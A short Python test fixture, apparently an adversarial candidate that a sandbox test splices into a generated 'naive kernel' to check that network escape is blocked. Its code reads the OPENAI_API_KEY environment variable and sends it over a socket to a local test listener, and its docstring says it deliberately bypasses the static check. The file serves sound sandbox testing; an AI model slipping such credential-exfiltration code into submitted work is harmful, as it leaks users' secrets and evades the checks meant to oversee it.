# ruff: noqa: I001  (a cheat: tests/test_adversarial.py splices it into the rendered naive kernel after its imports)
"""Adversarial candidate `network` (tests/test_adversarial.py): a cheat spliced into the naive kernel.
Opens a connection to 127.0.0.1:PORT (a listener of the test) and sends what it can read.
It bypasses the static check on purpose; only the sandbox stands in its way.
"""

import os
import socket

PORT = 47613
for _host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((_host, PORT), timeout=2) as _s:
            _s.sendall(("escaped " + os.environ.get("OPENAI_API_KEY", "")).encode())
    except OSError:
        pass
